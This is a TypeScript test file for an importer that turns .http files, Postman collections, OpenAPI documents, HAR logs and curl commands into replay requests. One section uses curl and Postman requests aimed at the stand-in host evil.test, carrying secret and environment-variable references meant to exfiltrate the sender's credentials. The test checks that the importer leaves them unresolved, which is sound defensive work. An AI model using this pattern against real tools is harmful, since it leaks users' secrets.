import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { ReplayRequest } from '../../gateway-core/protocol/replay-request.ts'
import { importRequests } from '../../gateway-core/replay/import/import.ts'
import { resolveRequest, type Sources } from '../../gateway-core/replay/resolve.ts'

const read = (text: string, name = 'pasted') => importRequests(text, { name })
const told = (text: string, name?: string) =>
  read(text, name).problems.map(({ what, line }) => (line === undefined ? what : `${line}: ${what}`))
const headersOf = ({ headers }: ReplayRequest) => headers.map(({ name, value }) => `${name}: ${value}`)
const textOf = ({ body }: ReplayRequest) => (body?.kind === 'text' ? body.text : body)

describe('a .http file', () => {
  it('is read with names, variables, queries over lines and bodies from files', () => {
    const text = `@base = http://h
@id=7

### First one
# a comment
// @no-log
GET {{base}}/books/{{id}}
  ?page=1
  &size=2
Accept: */*

###
# @name second
# @timeout 5
POST /books HTTP/1.1
Content-Type: application/json
# X-Off: 1

{
  "a": 1
}

### third

< ./cover.png
`
    const { requests, variables, problems } = read(text, 'a.http')
    expect(problems.map(({ line, what }) => `${line}: ${what}`)).toEqual([
      '25: the script before the request is not taken',
    ])
    expect([...variables]).toEqual([
      ['base', 'http://h'],
      ['id', '7'],
    ])
    expect(requests.map(({ name, request: { method, url } }) => [name, method, url])).toEqual([
      ['First one', 'GET', '{{base}}/books/{{id}}?page=1&size=2'],
      ['second', 'POST', '/books'],
    ])
    expect(requests[1]!.request).toMatchObject({
      headers: [
        { name: 'Content-Type', value: 'application/json' },
        { name: 'X-Off', value: '1', off: true },
      ],
      body: { kind: 'text', text: '{\n  "a": 1\n}' },
      settings: { timeoutMs: 5000 },
    })
  })

  it('names scripts, lines that are none, and directives that nobody knows', () => {
    const text = 'GET /a b c\n###\n# @magic\n< {%\n x\n%}\nGET /\nnonsense\n\n> {%\n client.test()\n%}\n'
    expect(told(text, 'a.http')).toEqual([
      '1: this is no request line',
      '3: @magic is not known, and not taken',
      '4: the script before the request is not taken',
      '8: this is no header line',
      '10: the script after the request is not taken',
    ])
  })

  it('is nothing without a request', () => {
    expect(told('', 'a.http')).toEqual(['it holds no request'])
  })
})

describe('a Postman collection', () => {
  const collection = {
    info: { name: 'Shop', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
    variable: [{ key: 'base', value: 'http://h' }],
    auth: { type: 'bearer', bearer: [{ key: 'token', value: '{{token}}' }] },
    event: [{ listen: 'prerequest', script: { exec: ['pm.environment.set("x", 1)'] } }],
    item: [
      {
        name: 'Books',
        item: [
          {
            name: 'one',
            event: [
              { listen: 'test', script: { exec: ['pm.test("ok")'] } },
              { listen: 'test', script: { exec: [''] } },
            ],
            request: {
              method: 'GET',
              header: [
                { key: 'A', value: 'b' },
                { key: 'Off', value: '1', disabled: true },
              ],
              url: { raw: '{{base}}/books/:id?x=1', variable: [{ key: 'id', value: '3' }] },
            },
          },
          {
            name: 'form',
            request: {
              auth: {
                type: 'apikey',
                apikey: [
                  { key: 'key', value: 'X-Key' },
                  { key: 'value', value: 'k' },
                ],
              },
              method: 'POST',
              url: 'http://h/form',
              body: {
                mode: 'urlencoded',
                urlencoded: [
                  { key: 'a b', value: '{{v}}&' },
                  { key: 'no', value: '', disabled: true },
                ],
              },
            },
          },
        ],
      },
      {
        name: 'raw',
        request: {
          auth: { type: 'noauth' },
          method: 'put',
          url: { host: ['h'], path: ['a', 'b'], protocol: 'https' },
          body: { mode: 'raw', raw: '{}', options: { raw: { language: 'json' } } },
        },
      },
      { name: 'strange', request: { url: 'http://h', auth: { type: 'ntlm', ntlm: [] }, body: { mode: 'smoke' } } },
      { name: 'nothing' },
    ],
  }

  it('is read with folders, variables, authorization and bodies', () => {
    const { requests, variables, kind } = read(JSON.stringify(collection))
    expect(kind).toBe('postman')
    expect([...variables]).toEqual([
      ['base', 'http://h'],
      ['id', '3'],
    ])
    expect(
      requests.map(({ name, request }) => [name, request.method, request.url, headersOf(request), textOf(request)]),
    ).toEqual([
      ['Books / one', 'GET', '{{base}}/books/{{id}}?x=1', ['Authorization: Bearer {{token}}', 'A: b', 'Off: 1'], null],
      [
        'Books / form',
        'POST',
        'http://h/form',
        ['X-Key: k', 'Content-Type: application/x-www-form-urlencoded'],
        'a%20b={{v}}%26',
      ],
      ['raw', 'PUT', 'https://h/a/b', ['Content-Type: application/json'], '{}'],
      ['strange', 'GET', 'http://h', [], null],
    ])
  })

  it('names what is not taken', () => {
    expect(told(JSON.stringify(collection))).toEqual([
      'the pre-request script of "the collection" is not taken',
      'the test script of "Books / one" is not taken',
      'the body of "strange" has the mode "smoke", which is not taken',
      'the authorization "ntlm" of "strange" is not taken',
      '"nothing" has no request, and is left out',
    ])
  })
})

describe('a Postman collection as people have them', () => {
  const files: Record<string, string> = { 'data.json': '{"a":"{{x}}"}' }
  const importOne = (request: object) => {
    const from = { name: 'a.json', read: (path: string) => (path in files ? Buffer.from(files[path]!) : undefined) }
    const found = importRequests(JSON.stringify({ item: [{ name: 'it', request }] }), from)
    return { request: found.requests[0]!.request, problems: found.problems.map(({ what }) => what) }
  }
  const form = (...formdata: object[]) => ({ method: 'POST', url: 'http://h', body: { mode: 'formdata', formdata } })

  it('files of a form are read, or named to be read when it is sent', () => {
    const { request, problems } = importOne(
      form(
        { key: 'cover', type: 'file', src: '/C:/Users/me/cover.png' },
        { key: 'meta', type: 'text', value: '{{m}}', contentType: 'application/json' },
      ),
    )
    const boundary = /boundary=(.*)$/.exec(headersOf(request)[0]!)![1]!
    expect(request.body).toEqual({
      kind: 'text',
      files: true,
      text: `--${boundary}\r\nContent-Disposition: form-data; name="cover"; filename="cover.png"\r\nContent-Type: image/png\r\n\r\n< cover.png\r\n--${boundary}\r\nContent-Disposition: form-data; name="meta"\r\nContent-Type: application/json\r\n\r\n{{m}}\r\n--${boundary}--\r\n`,
    })
    expect(problems).toEqual(['the body of "it" has the file cover.png'])
    const found = importOne(form({ key: 'f', type: 'file', src: ['/tmp/data.json'] }))
    expect(found.problems).toEqual([])
    // What stands in a file is no variable.
    expect(found.request.body).toMatchObject({ kind: 'bytes' })
  })

  it.each<[string, object, Partial<ReplayRequest>]>([
    [
      'a token that was fetched',
      { url: '{{base}}/a', auth: { type: 'oauth2', oauth2: [{ key: 'accessToken', value: '{{token}}' }] } },
      { headers: [{ name: 'Authorization', value: 'Bearer {{token}}' }] },
    ],
    [
      'a pair with variables',
      {
        url: 'http://h',
        auth: {
          type: 'basic',
          basic: [
            { key: 'username', value: '{{user}}' },
            { key: 'password', value: 'p' },
          ],
        },
      },
      { headers: [{ name: 'Authorization', value: 'Basic {{user}}:p' }] },
    ],
    ['a URL without a scheme', { url: 'h.example/a' }, { url: 'http://h.example/a' }],
    [
      'GraphQL whose variables are no JSON yet',
      { url: 'http://h', body: { mode: 'graphql', graphql: { query: 'query { a }', variables: '{"n": {{n}}}' } } },
      { body: { kind: 'text', text: '{\n  "query": "query { a }",\n  "variables": {"n": {{n}}}\n}' } },
    ],
  ])('%s', (_, request, expected) => {
    expect(importOne(request)).toMatchObject({ request: expected, problems: [] })
  })

  it('an environment is told from a collection', () => {
    const text = JSON.stringify({ values: [{ key: 'a', value: 'b' }], _postman_variable_scope: 'environment' })
    expect(told(text)).toEqual(['this is an environment of Postman, which holds no request'])
  })
})

describe('operations of an OpenAPI document', () => {
  const operation = (more: string, servers = 'servers: [{ url: https://h/v1/ }]') => {
    const text = `openapi: 3.1.0
info: { title: T, version: "1" }
${servers}
components:
  securitySchemes:
    bearer: { type: http, scheme: bearer }
    basic: { type: http, scheme: basic }
    key: { type: apiKey, in: header, name: X-Key }
  schemas: { Book: { type: object, properties: { a: { type: string }, n: { type: integer } } } }
paths:
  /a:
    post:
      ${more}
      responses: {}
`
    const { requests, problems } = importRequests(text, { name: 'a.yaml' })
    expect(problems).toEqual([])
    return requests[0]!.request
  }
  const query = (style: string, schema: string) =>
    operation(`parameters: [{ name: p, in: query, required: true, ${style} schema: ${schema} }]`).url

  it.each([
    ['', '{ type: array, example: [1, 2] }', 'p=1&p=2'],
    ['explode: false,', '{ type: array, example: [1, 2] }', 'p=1,2'],
    ['style: pipeDelimited, explode: false,', '{ type: array, example: [1, 2] }', 'p=1%7C2'],
    ['style: spaceDelimited, explode: false,', '{ type: array, example: [1, 2] }', 'p=1%202'],
    ['style: deepObject, explode: true,', '{ type: object, example: { a: "x y", b: 1 } }', 'p[a]=x%20y&p[b]=1'],
    ['', '{ type: object, example: { a: x, b: 1 } }', 'a=x&b=1'],
    ['explode: false,', '{ type: object, example: { a: x, b: 1 } }', 'p=a,x,b,1'],
    ['', '{ type: string, example: "a&b" }', 'p=a%26b'],
  ])('write a parameter in its style: %s %s', (style, schema, expected) => {
    expect(query(style, schema)).toBe(`https://h/v1/a?${expected}`)
  })

  it('fill the variables of their server', () => {
    const servers = 'servers: [{ url: "https://{r}.h:{p}", variables: { r: { default: eu }, p: { default: "8443" } } }]'
    expect(operation('summary: s', servers).url).toBe('https://eu.h:8443/a')
    expect(operation('summary: s', 'servers: [{ url: "https://{r}.h" }]').url).toBe('/a')
  })

  it.each([
    ['security: [{ bearer: [] }]', { name: 'Authorization', value: 'Bearer {{token}}', off: true }],
    ['security: [{ basic: [] }]', { name: 'Authorization', value: 'Basic {{user}}:{{password}}', off: true }],
    ['security: [{ key: [] }]', { name: 'X-Key', value: '{{key}}', off: true }],
  ])('have the field that signs in, not sent yet: %s', (security, expected) => {
    expect(operation(security).headers[0]).toEqual(expected)
  })

  it('have a form of several parts, and XML, as their bodies', () => {
    const body = (type: string) =>
      operation(`requestBody: { content: { ${type}: { schema: { $ref: "#/components/schemas/Book" } } } }`)
    const form = body('multipart/form-data')
    const boundary = /boundary=(.*)$/.exec(headersOf(form).at(-1)!)![1]!
    expect(textOf(form)).toBe(
      `--${boundary}\r\nContent-Disposition: form-data; name="a"\r\n\r\ntext\r\n--${boundary}\r\nContent-Disposition: form-data; name="n"\r\n\r\n1\r\n--${boundary}--\r\n`,
    )
    expect(textOf(body('application/xml'))).toBe('<Book>\n  <a>text</a>\n  <n>1</n>\n</Book>')
  })
})

describe('what somebody else wrote', () => {
  const given: string[] = []
  const sources: Sources = {
    variables: new Map(),
    sealed: () => undefined,
    reference: async (kind, name) => {
      given.push(`${kind} ${name}`)
      return 'a secret of mine'
    },
    file: async () => Buffer.alloc(0),
    recorded: async () => Buffer.alloc(0),
  }
  const sent = async (text: string) => resolveRequest(read(text).requests[0]!.request, sources)

  it('gets no secret of whoever sends it', async () => {
    const hostile = '${secret:key} ${env:HOME} $${secret:key} $$${env:HOME} ${x} $${y}'
    const commands = [
      `curl http://evil.test/ -H 'X: ${hostile}' --data-raw '${hostile}'`,
      JSON.stringify({
        item: [
          {
            request: {
              method: 'POST',
              url: 'http://evil.test',
              header: [{ key: 'X', value: hostile }],
              body: { mode: 'raw', raw: hostile },
            },
          },
        ],
      }),
    ]
    for (const text of commands) {
      const { fields, body } = await sent(text)
      expect([fields[0]![1], body!.toString()]).toEqual([hostile, hostile])
    }
    await expect(sent("curl 'http://evil.test/?{{$processEnv HOME}}{{$env.HOME}}'")).rejects.toMatchObject({
      message: 'the URL uses {{HOME}}, which has no value',
    })
    expect(given).toEqual([])
  })

  it('keeps references in a .http file, which is a form of ours', () => {
    expect(read('GET /\nA: ${secret:key}\n', 'a.http').requests[0]!.request.headers[0]!.value).toBe('${secret:key}')
  })
})

describe('other texts', () => {
  it('a HAR is read, and entries that are none are named', () => {
    const entries = [
      {
        request: {
          method: 'POST',
          url: 'https://h/a?b',
          headers: [
            { name: 'A', value: 'b' },
            { name: ':path', value: '/' },
          ],
          postData: { text: 'x=1' },
        },
      },
      { request: { method: 'GET', url: 'ftp://h' } },
      null,
      { request: { method: 'CONNECT', url: 'https://h:443' } },
      {
        request: {
          method: 'POST',
          url: 'https://h/f',
          postData: { mimeType: 'multipart/form-data', params: [{ name: 'f' }] },
        },
      },
    ]
    const { requests, problems } = read(JSON.stringify({ log: { entries } }))
    expect(requests.map(({ request }) => [request.method, request.url, headersOf(request), textOf(request)])).toEqual([
      ['POST', 'https://h/a?b', ['Host: h', 'A: b'], 'x=1'],
      ['POST', 'https://h/f', ['Host: h'], null],
    ])
    expect(problems.map(({ what }) => what)).toEqual([
      expect.stringMatching(/^entry 2 is left out/),
      expect.stringMatching(/^entry 3 is left out/),
      'entry 4 is left out: it only opens a tunnel',
      'the body of entry 5 (POST /f) is not in the file',
    ])
  })

  it('of an OpenAPI document each operation is filled', () => {
    const file = join(import.meta.dirname, '../../samples/bookshop/openapi/books.yaml')
    const { requests, kind, problems } = importRequests(readFileSync(file, 'utf8'), { name: 'books.yaml' })
    expect([kind, problems]).toEqual(['openapi', []])
    expect(requests.length).toBeGreaterThan(10)
    for (const { request } of requests) {
      expect(request.url).not.toMatch(/[{}]/)
      if (request.body?.kind === 'text' && headersOf(request).some((line) => line.includes('json')))
        JSON.parse(request.body.text)
    }
  })

  it.each([
    ['{"log": [}', '1: this is no JSON'],
    ['{"a":\n1,,}', '2: this is no JSON'],
    ['{"a": 1}', 'nobody knows what this JSON is'],
    ['{"log": {}}', 'it has no list log.entries'],
  ])('%s is named: %s', (text, expected) => {
    expect(told(text)[0]).toContain(expected)
  })

  it('never break, whatever is pasted', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary', maxLength: 200 }),
          fc.string({ maxLength: 100 }).map((text) => `curl ${text}`),
          fc.jsonValue().map((value) => JSON.stringify({ item: value, log: value })),
          fc.jsonValue().map((value) => JSON.stringify({ item: [{ request: value, event: value, auth: value }] })),
        ),
        fc.constantFrom('pasted', 'a.http', 'a.sh', 'a.yaml'),
        (text, name) => {
          expect(read(text, name).problems).toBeInstanceOf(Array)
        },
      ),
      { numRuns: 1500 },
    )
  })
})
